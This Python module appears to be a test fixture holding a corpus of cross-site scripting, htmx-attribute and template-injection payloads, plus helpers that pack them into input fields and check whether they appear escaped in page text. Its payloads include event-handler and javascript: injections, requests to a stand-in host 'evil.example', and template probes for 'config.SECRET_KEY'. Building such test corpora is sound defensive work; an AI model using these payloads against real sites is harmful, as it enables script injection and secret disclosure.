"""A corpus of injection payloads for the end-to-end XSS tests.

Every payload is unique, fits on one line, has no leading or trailing space and no
double spaces, so the exact string can be looked for in a page's visible text: a payload
shown as text proves the page escaped it. A payload that runs calls `__xss(n)` or
`alert(n)`, which the browser guard records; one that loads something asks for `/x`,
`/logout` or another host, which the guard records as a stray request.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # Plain script and event handlers.
    "<script>__xss(1)</script>",
    "<img src=x onerror=__xss(2)>",
    "<svg onload=__xss(3)>",
    '"><script>__xss(4)</script>',
    "javascript:__xss(5)",
    '<a href="javascript:__xss(6)">x</a>',
    # htmx attributes: a swap of unescaped markup would make htmx act on them.
    '<div hx-get="/logout" hx-trigger="load">htmx-load</div>',
    '<div hx-on:click="__xss(7)">htmx-on</div>',
    '<button hx-post="/logout" hx-trigger="load" hx-target="body">htmx-post</button>',
    '<div hx-get="//evil.example/" hx-trigger="load" hx-swap="outerHTML">htmx-far</div>',
    "<span hx-on::load=\"alert(8)\" hx-vals='js:{a:__xss(9)}'>htmx-js</span>",
    # Template engines: must come back verbatim, never evaluated.
    "{{ 7*7 }}",
    "{% raw %}",
    "{% endraw %}{{ config.SECRET_KEY }}",
    "{{ request.application.__globals__ }}",
    "${__xss(10)}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('__xss(11)')()}}",
    # Frames, objects and navigation.
    "<iframe srcdoc=\"<script>parent.__xss(12)</script>\"></iframe>",
    '<iframe src="javascript:__xss(13)"></iframe>',
    '<object data="javascript:__xss(14)"></object>',
    '<embed src="javascript:__xss(15)">',
    '<meta http-equiv="refresh" content="0;url=javascript:__xss(16)">',
    '<base href="//evil.example/">',
    '<form action="javascript:__xss(17)"><button>go17</button></form>',
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxOCk8L3NjcmlwdD4=",
    "JaVaScRiPt:__xss(19)",
    # Styles and SVG/MathML parsing tricks.
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href="//evil.example/y.css">',
    "<style>*{background:url('javascript:__xss(20)')}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(21)>",
    "<svg><script>alert(22)</script></svg>",
    "<svg><animate onbegin=__xss(23) attributeName=x dur=1s>",
    "<noscript><p title=\"</noscript><img src=x onerror=__xss(24)>\">",
    "<template shadowrootmode=open><img src=x onerror=__xss(25)></template>",
    # Breaking out of the element or attribute the text lands in.
    "'\"><img src=x onerror=__xss(26)>",
    "' onmouseover='__xss(27)' x='",
    '" autofocus onfocus="__xss(28)" x="',
    "</textarea><script>__xss(29)</script>",
    "</title><script>__xss(30)</script>",
    "</script><script>__xss(31)</script>",
    "';__xss(32);//",
    '\\";__xss(33);//',
    "`-__xss(34)-`",
    '<!--<img src="--><img src=x onerror=__xss(35)//">',
    "<![CDATA[<script>__xss(36)</script>]]>",
    "<details open ontoggle=__xss(37)>",
    "<input autofocus onfocus=__xss(38)>",
    "<video><source onerror=__xss(39)></video>",
    # Encodings and Unicode look-alikes: shown literally, never decoded into markup.
    "&lt;script&gt;__xss(40)&lt;/script&gt;",
    "%3Cscript%3E__xss(41)%3C%2Fscript%3E",
    "\\u003cimg src=x onerror=__xss(42)\\u003e",
    "\uff1cscript\uff1e__xss(43)\uff1c/script\uff1e",
    "<scr\u200bipt>__xss(44)</scr\u200bipt>",
    "\u202e<img src=x onerror=__xss(45)>",
    "<ſcript>__xss(46)</ſcript> \U0001f600",
    "<img src=x onerror=alert(47)>",
]

SEPARATOR = " · "


def pack(limit: int, start: int = 0, count: int | None = None) -> str:
    """As many payloads as fit in `limit` characters, from `start` on, joined in one line.

    Long fields get the whole corpus; short ones get a few payloads, and different
    starts spread the corpus over them.
    """
    size = len(PAYLOADS)
    chosen: list[str] = []
    for offset in range(size if count is None else min(count, size)):
        candidate = PAYLOADS[(start + offset) % size]
        if len(SEPARATOR.join([*chosen, candidate])) <= limit:
            chosen.append(candidate)
    if not chosen:
        raise ValueError(f"no payload fits in {limit} characters from {start}")
    return SEPARATOR.join(chosen)


def contained(text: str) -> list[str]:
    """The payloads that occur in `text`."""
    return [payload for payload in PAYLOADS if payload in text]


assert len(set(PAYLOADS)) == len(PAYLOADS), "payloads must be unique"
assert all(p == p.strip() and "  " not in p and "\n" not in p for p in PAYLOADS)
